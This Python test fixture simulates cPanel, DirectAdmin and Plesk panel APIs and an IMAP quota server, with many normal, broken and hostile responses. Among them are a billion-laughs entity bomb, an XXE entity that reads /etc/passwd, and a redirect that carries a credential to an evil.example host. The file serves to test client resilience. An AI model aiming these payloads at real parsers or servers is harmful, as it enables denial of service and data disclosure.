"""Hosting panels as their vendors document them, and as they are not: cPanel, DirectAdmin, Plesk,
and a mailbox with a quota. What a panel does is the first label of the name it is asked by; what
the mailbox does, the part of the login before the @.

Shapes: the OpenAPI description of cPanel UAPI, DirectAdmin's web.UserUsage and web.UserConfig,
docs.plesk.com/en-US/obsidian/api-rpc, RFC 9208.
"""

from __future__ import annotations

import asyncio
import base64
import contextlib
import json
import logging
import re
import ssl
from collections.abc import Callable
from dataclasses import dataclass, replace
from typing import Any
from urllib.parse import parse_qs, urlsplit

from tests.internet.certificates import Authority
from tests.internet.domains import Domain
from tests.internet.hostile_web import Script
from tests.internet.web_server import Listener, Request, Response

USER, TOKEN = "pensjonat", "U7HMR63FHY282DQZ4H5BIH16JLYSO01M"
PASSWORD = "zażółć gęślą jaźń 7!"  # noqa: S105
PORTS = {"cpanel": 2083, "directadmin": 2222, "plesk": 8443}
IMAPS = 993
GIB = 2**30

Json = Any


def _json(value: Json, status: int = 200) -> Response:
    body = value if isinstance(value, str) else json.dumps(value)
    return Response(status, {"Content-Type": "application/json; charset=utf-8"}, body.encode())


def _page(title: str, inner: str, status: int = 200) -> Response:
    text = f"<!DOCTYPE html><html><head><title>{title}</title></head><body>{inner}</body></html>"
    return Response(status, {"Content-Type": "text/html; charset=utf-8"}, text.encode())


LOGIN = _page(
    "Logowanie do cPanel",
    '<form action="/login/" method="post"><input name="user"><input name="pass" type="password">'
    "<button>Zaloguj</button></form>",
)
SUSPENDED = _page("Account Suspended", "<h1>This account has been suspended.</h1>")
CAPTCHA = _page(
    "One moment, please", '<div class="g-recaptcha" data-sitekey="x"></div><p>Loading ...</p>'
)
TWO_FACTOR = _page(
    "Two-Factor Authentication", '<h1>Enter the security code</h1><input name="tfa_token">'
)


def _redirect(location: str) -> Response:
    return Response(302, {"Location": location}, b"")


# What any panel may do instead of answering, whoever asks.
INSTEAD: dict[str, Callable[[Request], Response]] = {
    "login": lambda _: LOGIN,
    "suspended": lambda _: SUSPENDED,
    "switched-off": lambda _: _redirect("/cgi-sys/suspendedpage.cgi"),
    "captcha": lambda _: CAPTCHA,
    "second-factor": lambda _: TWO_FACTOR,
    "second-factor-refused": lambda _: replace(TWO_FACTOR, status=401),
    "blocked": lambda _: _json({"error": "Access denied"}, 403),
    "blocking": lambda _: _page("Blocked", "Brute force protection: too many attempts", 403),
    "throttled": lambda _: _json({}, 429),
    "missing": lambda _: _page("Not Found", "<h1>Not Found</h1>", 404),
    "broken": lambda _: _json({"error": "internal"}, 500),
    "away": lambda request: _redirect(
        f"https://bait.{request.host.partition('.')[2]}{request.path}"
    ),
    "to-login": lambda _: _redirect("/login/?goto_uri=/"),
    "silent": lambda _: Response(pace="silent"),
    "cut": lambda _: replace(_json({"status": 1, "data": {}}), pace="cut_off"),
    "huge": lambda _: _json('{"status":1,"data":"' + "x" * 2_000_000 + '"}'),
    "deep": lambda _: _json("[" * 200_000),
    "nonsense": lambda _: _json("status=1&disk=5"),
    "number": lambda _: _json("7"),
    "empty": lambda _: _json(""),
    # What it was told, everywhere in its answer.
    "echo": lambda request: Response(
        500,
        {"Content-Type": "text/html", "X-Debug": _told(request), "Set-Cookie": _told(request)},
        f"<pre>{_told(request)}</pre>".encode(),
    ),
    "echo-status": lambda request: Response(script=Script(f"HTTP {_told(request)}\r\n".encode())),
    "echo-redirect": lambda request: _redirect(f"https://{_told(request)}.evil.example/"),
}


def _told(request: Request) -> str:
    """The credential of a request, as it came and as it is meant."""
    came = request.fields.get("authorization") or " ".join(
        request.fields.get(name, "") for name in ("http_auth_passwd", "key")
    )
    scheme, _, rest = came.partition(" ")
    if scheme == "Basic":
        return f"{rest} {base64.b64decode(rest).decode()}"
    return came


# ---- cPanel


def _uapi(data: Json, **rest: Json) -> dict[str, Json]:
    return {
        "data": data, "errors": None, "messages": None, "metadata": {}, "status": 1,
        "warnings": None, **rest,
    }  # fmt: skip


def _failed(*errors: str) -> dict[str, Json]:
    return _uapi(None, status=0, errors=list(errors))


def _usage(id_: str, usage: Json, maximum: Json, formatter: str | None = "format_bytes") -> Json:
    return {
        "id": id_, "description": id_.title(), "error": None, "formatter": formatter,
        "usage": usage, "maximum": maximum, "url": None,
    }  # fmt: skip


QUOTA = {
    "inode_limit": 250000, "inodes_remain": 248965, "inodes_used": 1035,
    "megabyte_limit": 10240, "megabytes_remain": 205, "megabytes_used": 10035.2,
    "under_inode_limit": 1, "under_megabyte_limit": 1, "under_quota_overall": 1,
}  # fmt: skip
USAGES = [
    _usage("disk_usage", 10522669875, 10737418240),
    _usage("bandwidth", 118 * GIB, 100 * GIB),
    _usage("mysql_databases", 2, 15, None),
]
CLOUDLINUX = [
    *USAGES,
    _usage("lvecpu", "97", "100", "percent"),
    _usage("lveep", "20", "20", None),
    _usage("lvememphy", "402653184", "1073741824"),
]
STATS = {
    "id": "bandwidthusage", "name": "bandwidthusage", "_count": "118.5", "_max": "unlimited",
    "units": "MB", "is_maxed": 0, "zeroisunlimited": 1, "percent": 0,
}  # fmt: skip
SITE = {"domain": "pensjonat.pl", "documentroot": "/home/pensjonat/public_html", "type": "main"}

_USUAL = {
    "Quota/get_quota_info": _uapi(QUOTA),
    "ResourceUsage/get_usages": _uapi(USAGES),
    "StatsBar/get_stats": _uapi([STATS]),
    "DomainInfo/single_domain_data": _uapi(SITE),
}
CPANEL: dict[str, dict[str, Json]] = {
    "usual": _USUAL,
    "wrapped": {
        call: {"apiversion": 3, "func": call, "module": "x", "result": one}
        for call, one in _USUAL.items()
    },
    "strings": {
        **_USUAL,
        "Quota/get_quota_info": _uapi(
            {**QUOTA, "megabyte_limit": "10240.00", "megabytes_used": "10035.20"}
        ),
        "ResourceUsage/get_usages": _uapi([_usage("bandwidth", "126701535232", "107374182400")]),
    },
    "unlimited": {
        **_USUAL,
        "Quota/get_quota_info": _uapi({**QUOTA, "megabyte_limit": 0, "megabytes_used": 5.46}),
        "ResourceUsage/get_usages": _uapi([_usage("bandwidth", 1024, None)]),
    },
    "no-quotas": {
        **_USUAL,
        "Quota/get_quota_info": _uapi(
            {**QUOTA, "megabyte_limit": "0.00", "megabytes_used": "0.00"}
        ),
    },
    "cloudlinux": {**_USUAL, "ResourceUsage/get_usages": _uapi(CLOUDLINUX)},
    "stats-bar": {**_USUAL, "ResourceUsage/get_usages": _uapi([])},
    "only-disk": {"Quota/get_quota_info": _uapi(QUOTA)},
    "failing-parts": {
        "Quota/get_quota_info": _uapi(QUOTA),
        "ResourceUsage/get_usages": _failed("The feature is disabled."),
        "StatsBar/get_stats": "<html>",
        "DomainInfo/single_domain_data": _failed("Domain not found."),
    },
    "odd-figures": {
        **_USUAL,
        "Quota/get_quota_info": _uapi({**QUOTA, "megabytes_used": "NaN"}),
        "ResourceUsage/get_usages": _uapi(
            [_usage("disk_usage", -5, 10), _usage("bandwidth", [1], {"a": 1}), "row", None]
        ),
        "StatsBar/get_stats": _uapi([{"_count": "1e400", "units": "MB"}]),
        "DomainInfo/single_domain_data": _uapi({"documentroot": "/home/\u202ex"}),
    },
    "refusing": {"Quota/get_quota_info": _failed("You do not have the feature “quota”.")},
    "suspended-account": {"Quota/get_quota_info": _failed("This account is suspended.")},
    "other": {"Quota/get_quota_info": {"cpanelresult": {"data": []}}},
}  # fmt: skip


def _cpanel(request: Request, does: str) -> Response:
    if request.fields.get("authorization") != f"cpanel {USER}:{TOKEN}":
        return _page("Access Denied", "Token authentication failed.", 401)
    if does == "echo-folder":
        site = {"documentroot": f"/home/{TOKEN}"}
        calls = {**_USUAL, "DomainInfo/single_domain_data": _uapi(site)}
    elif does in CPANEL:
        calls = CPANEL[does]
    else:
        return LOGIN
    url = urlsplit(request.path)
    if url.path == "/execute/StatsBar/get_stats" and "display" not in parse_qs(url.query):
        return _json(_failed("Provide the “display” parameter."))
    told = calls.get(url.path.removeprefix("/execute/"))
    return _json({"error": "Access denied"}, 403) if told is None else _json(told)


# ---- DirectAdmin


def _limit(usage: Json, limit: Json, unlimited: Json = False) -> Json:
    return {"limit": limit, "unlimited": unlimited, "usage": usage}


USER_USAGE = {
    "bandwidthBytes": _limit(3 * GIB, 50 * GIB), "dbQuotaBytes": 1234, "emailQuotaBytes": 5678,
    "inode": _limit(900, 0, unlimited=True), "quotaBytes": _limit(10 * GIB, 10 * GIB),
}  # fmt: skip
USER_CONFIG = {
    "suspended": False, "quotaLim": 10240, "bandwidthLim": 51200, "cpuQuota": "",
    "docsRoot": "./data/skins/evolution", "domain": "pensjonat.pl", "username": USER,
}  # fmt: skip
_NO_LIMITS = {
    "quotaBytes": _limit(5, 0, unlimited=True), "bandwidthBytes": _limit(7, 0, unlimited=True),
}  # fmt: skip
DIRECTADMIN: dict[str, tuple[Response, Response]] = {
    "usual": (_json(USER_USAGE), _json(USER_CONFIG)),
    "wrapped": (_json({"userUsage": USER_USAGE}), _json({"userConfig": USER_CONFIG})),
    "strings": (
        _json({"quotaBytes": _limit("10737418240", "10737418240")}),
        _json({**USER_CONFIG, "suspended": "no"}),
    ),
    "unlimited": (_json(_NO_LIMITS), _json(USER_CONFIG)),
    "switched": (_json(USER_USAGE), _json({**USER_CONFIG, "suspended": True})),
    "one-command": (_json(USER_USAGE), _json({"type": "ACCESS_DENIED"}, 403)),
    "no-licence": (_json({"type": "LICENSE_INVALID"}, 402), _json({}, 402)),
    "no-commands": (_json({"type": "ACCESS_DENIED"}, 403), _json({}, 403)),
    "otp": (_json({"type": "LOGIN_FAILED_OTP"}, 401), _json({}, 401)),
    "disabled": (_json({"type": "LOGIN_ACCOUNT_DISABLED"}, 403), _json({}, 403)),
    "nothing": (_json({}), _json({})),
}


def _directadmin(request: Request, does: str) -> Response:
    pair = base64.b64encode(f"{USER}:{TOKEN}".encode()).decode()
    if request.fields.get("authorization") != f"Basic {pair}":
        return _json({"type": "UNAUTHORIZED"}, 401)
    known = DIRECTADMIN.get(does)
    paths = ("/api/session/user-usage", "/api/session/user-config")
    return known[paths.index(request.path)] if known and request.path in paths else LOGIN


# ---- Plesk


def _packet(inner: str) -> Response:
    text = f'<?xml version="1.0" encoding="UTF-8"?>\n<packet version="1.6.9.1">{inner}</packet>'
    return Response(200, {"Content-Type": "text/xml;charset=UTF-8"}, text.encode())


def _subscription(
    status: int = 0,
    size: object = 5 * GIB,
    traffic: object = 9 * GIB,
    disk_space: object = 20 * GIB,
    max_traffic: object = 10 * GIB,
    more: str = "",
) -> Response:
    return _packet(
        "<webspace><get><result><status>ok</status><filter-id>pensjonat.pl</filter-id><id>7</id>"
        f"<data><gen_info><name>pensjonat.pl</name><status>{status}</status>"
        f"<real_size>{size}</real_size><htype>vrt_hst</htype></gen_info>"
        "<hosting><vrt_hst><property><name>www_root</name>"
        "<value>/var/www/vhosts/pensjonat.pl/httpdocs</value></property></vrt_hst></hosting>"
        "<limits><overuse>block</overuse>"
        f"<limit><name>disk_space</name><value>{disk_space}</value></limit>"
        f"<limit><name>max_traffic</name><value>{max_traffic}</value></limit>"
        f"</limits><stat><traffic>{traffic}</traffic></stat>"
        f"<disk_usage><httpdocs>{4 * GIB}</httpdocs><mailboxes>{GIB}</mailboxes></disk_usage>"
        f"{more}</data></result></get></webspace>"
    )


def _error(code: int, inside: str = "system") -> Response:
    told = f"<status>error</status><errcode>{code}</errcode><errtext>told</errtext>"
    if inside == "system":
        return _packet(f"<system>{told}</system>")
    return _packet(f"<webspace><get><result>{told}</result></get></webspace>")


def _with_dtd(dtd: str, inner: str) -> Response:
    text = f'<?xml version="1.0"?><!DOCTYPE packet [{dtd}]><packet>{inner}</packet>'
    return Response(200, {"Content-Type": "text/xml"}, text.encode())


_LAUGHS = '<!ENTITY a0 "ha">' + "".join(
    f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12)
)
PLESK: dict[str, Response] = {
    "usual": _subscription(),
    "unlimited": _subscription(disk_space=-1, max_traffic=-1),
    "full": _subscription(size=20 * GIB),
    "disabled": _subscription(status=16),
    "expired": _subscription(status=256),
    "backup": _subscription(status=4),
    "odd-figures": _subscription(size="&#x221e;", traffic="-7"),
    "many": _subscription(more="<x/>" * 5000),
    "locked": _error(1012),
    "account-disabled": _error(1011),
    "no-access": _error(1010),
    "not-permitted": _error(1006, "result"),
    "no-domain": _error(1013, "result"),
    "entity-bomb": _with_dtd(_LAUGHS, "<system><status>&a11;</status></system>"),
    "external": _with_dtd(
        '<!ENTITY x SYSTEM "file:///etc/passwd">', "<webspace><get>&x;</get></webspace>"
    ),
    "deep-xml": _packet("<a>" * 5000 + "</a>" * 5000),
    "not-xml": Response(200, {"Content-Type": "text/xml"}, b"<packet><webspace>"),
    "other-xml": Response(200, {"Content-Type": "text/xml"}, b"<rss/>"),
}


def _plesk(request: Request, does: str) -> Response:
    asked = b"<name>pensjonat.pl</name>" in request.body
    if request.method != "POST" or request.path != "/enterprise/control/agent.php" or not asked:
        return LOGIN
    given = request.fields
    by_password = (given.get("http_auth_login"), given.get("http_auth_passwd")) == (USER, TOKEN)
    if not by_password and given.get("key") != TOKEN:
        return _error(11003 if "key" in given else 1001)
    return PLESK.get(does, LOGIN)


PANELS = {"cpanel": _cpanel, "directadmin": _directadmin, "plesk": _plesk}


_ALIAS = re.compile(r"-(?:pl|en)$")  # the same panel by another name


def handler(kind: str) -> Callable[[Request], Response]:
    """What the panel of that kind answers."""

    def handle(request: Request) -> Response:
        does = _ALIAS.sub("", request.host.partition(".")[0])
        logging.info("panel %s asked as %s", kind, request.host)
        if does in INSTEAD:
            return INSTEAD[does](request)
        return PANELS[kind](request, does)

    return handle


# ---- a mailbox


@dataclass(frozen=True)
class Inbox:
    """What an IMAP server says: to GETQUOTAROOT, to the login, and what it offers then.

    `login` None: OK for the right password.
    """

    quota: tuple[str, ...] = ()
    login: str | None = None
    offers: str = "IMAP4rev1 QUOTA QUOTA=RES-STORAGE IDLE"
    on_login: tuple[str, ...] = ()


INBOXES: dict[str, Inbox] = {
    "usual": Inbox(('* QUOTAROOT INBOX "User quota"', '* QUOTA "User quota" (STORAGE 512 1024)')),
    "full": Inbox(('* QUOTAROOT INBOX ""', '* QUOTA "" (STORAGE 1048576 1048576 MESSAGE 9 10)')),
    "roots": Inbox(
        ("* QUOTAROOT INBOX a b", "* QUOTA a (STORAGE 1 100)", "* QUOTA b (STORAGE 90 100)")
    ),
    "over": Inbox(
        ("* QUOTAROOT INBOX",), on_login=("* NO [OVERQUOTA] Soft quota has been exceeded",)
    ),
    "no-limit": Inbox(('* QUOTAROOT INBOX ""', '* QUOTA "" (STORAGE 5 0)')),
    "none": Inbox(("* QUOTAROOT INBOX",)),
    "old": Inbox(offers="IMAP4rev1 IDLE"),
    "app-password": Inbox(login="NO [ALERT] Application-specific password required"),
    "expired": Inbox(login="NO [EXPIRED] Your password has expired"),
    "unavailable": Inbox(login="NO [UNAVAILABLE] Temporary authentication failure"),
    "many": Inbox(login="NO [LIMIT] Too many connections"),
    "plain-no": Inbox(login="NO Login failed"),
    "odd": Inbox(('* QUOTA "" (STORAGE -1 99999999999999999999)', "* QUOTA garbage")),
    "echo": Inbox(login="NO [AUTHENTICATIONFAILED] {password} is wrong"),
}


GREETINGS = {
    "bye": "* BYE Too many connections from your address.",
    "not-imap": "220 mail ESMTP Postfix",
    "garbage": "x" * 10_000,
}
NO_SASL = "by-login"  # by these names a server is other than usual


async def start_mailboxes(address: str, context: ssl.SSLContext) -> None:
    """IMAP over TLS; what it hears of passwords is not in the log."""
    # The name that a client asks for, on the object by which the connection knows its TLS.
    context.sni_callback = lambda tls, name, _: setattr(tls, "asked_for", name)
    await asyncio.start_server(_serve, address, IMAPS, ssl=context)


async def _serve(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    with contextlib.suppress(OSError, ValueError, TimeoutError):  # the client may leave
        await _Mailbox(reader, writer).converse()
    with contextlib.suppress(OSError):
        writer.close()


class _Mailbox:
    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self._reader, self._writer = reader, writer
        tls = writer.get_extra_info("ssl_object")
        self._name = str(getattr(tls, "asked_for", "")).partition(".")[0]
        self._offers = "IMAP4rev1" if self._name == NO_SASL else "IMAP4rev1 AUTH=PLAIN"
        self._inbox: Inbox | None = None  # once somebody is inside

    async def converse(self) -> None:
        await self._say(GREETINGS.get(self._name, "* OK Dovecot ready."))
        while line := await self._line():
            mark, _, command = line.partition(" ")
            verb, _, rest = command.partition(" ")
            match verb.upper():
                case "CAPABILITY":
                    await self._say(f"* CAPABILITY {self._offers}", f"{mark} OK done")
                case "AUTHENTICATE" if "AUTH=PLAIN" in self._offers:
                    await self._say("+ ")
                    _, login, password = base64.b64decode(await self._line()).decode().split("\0")
                    await self._enter(mark, login, password)
                case "LOGIN":
                    login, password = rest.strip('"').split('" "')
                    await self._enter(mark, login, password.replace('\\"', '"'))
                case "GETQUOTAROOT" if self._inbox is not None:
                    await self._say(*self._inbox.quota, f"{mark} OK done")
                case "LOGOUT":
                    return
                case _:
                    await self._say(f"{mark} BAD unknown")

    async def _enter(self, mark: str, login: str, password: str) -> None:
        inbox = INBOXES.get(login.partition("@")[0], Inbox(login="NO Login failed"))
        if inbox.login is not None:
            await self._say(f"{mark} {inbox.login.format(password=password)}")
        elif password not in (PASSWORD, TOKEN):
            await self._say(f"{mark} NO [AUTHENTICATIONFAILED] Authentication failed.")
        else:
            self._inbox, self._offers = inbox, inbox.offers
            await self._say(*inbox.on_login, f"{mark} OK Logged in")

    async def _line(self) -> str:
        return (await asyncio.wait_for(self._reader.readline(), 30)).decode().rstrip("\r\n")

    async def _say(self, *lines: str) -> None:
        self._writer.write("".join(f"{line}\r\n" for line in lines).encode())
        await self._writer.drain()


# ---- in the world


def listeners(domains: list[Domain], authority: Authority) -> list[Listener]:
    """The panels of the domains that have them."""
    return [
        Listener(ip, port, handler(kind), _context(domain, authority))
        for domain in domains
        if domain.panels
        for ip in domain.server_addresses
        for kind, port in PORTS.items()
    ]


async def start_inboxes(domains: list[Domain], authority: Authority) -> None:
    for domain in domains:
        if domain.panels:
            for ip in domain.server_addresses:
                await start_mailboxes(ip, _context(domain, authority))


def _context(domain: Domain, authority: Authority) -> ssl.SSLContext:
    names = domain.certificate.names or [domain.name, f"*.{domain.name}"]
    return authority.context(names, domain.certificate.kind)
